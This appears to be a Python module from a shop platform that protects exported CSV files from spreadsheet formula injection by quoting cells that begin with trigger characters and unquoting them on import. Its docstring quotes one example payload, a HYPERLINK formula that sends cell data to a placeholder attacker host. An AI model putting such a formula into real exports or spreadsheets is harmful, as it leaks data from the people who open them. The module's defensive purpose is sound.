"""CSV files meant to be opened in a spreadsheet, safe from formula injection (OWASP's advice).

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets; a product title such as
`=HYPERLINK("https://evil.example/?"&A1, "click")` would run in the merchant's spreadsheet.
Such cells are written with a leading single quote (`'=HYPERLINK(…)`), which spreadsheets
show as text. Plain numbers (`-5`, `+3.5`) are left alone: they are not formulas.

Imports of these files (catalog CSV, translations CSV) drop that one quote again when it is
followed by one of those characters, so an exported file imports back unchanged.

Channel feeds (channels/feeds.py) do not use this: channels read them, not spreadsheets, and
they must carry the merchant's values exactly.
"""

from __future__ import annotations

import csv
import re
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)\Z")


def _formula_like(value: str) -> bool:
    """Starts with a trigger, after any number of quotes (so quoting round-trips exactly)."""
    rest = value.lstrip("'")
    return rest.startswith(TRIGGERS) and not _NUMBER.match(rest)


def neutralise(value: Any) -> Any:
    if isinstance(value, str) and _formula_like(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The inverse of neutralise, for cells read back from an exported file."""
    if value.startswith("'") and _formula_like(value):
        return value[1:]
    return value


class SpreadsheetWriter:
    """csv.writer that neutralises every cell."""

    def __init__(self, handle, *args, **kwargs):
        self._writer = csv.writer(handle, *args, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
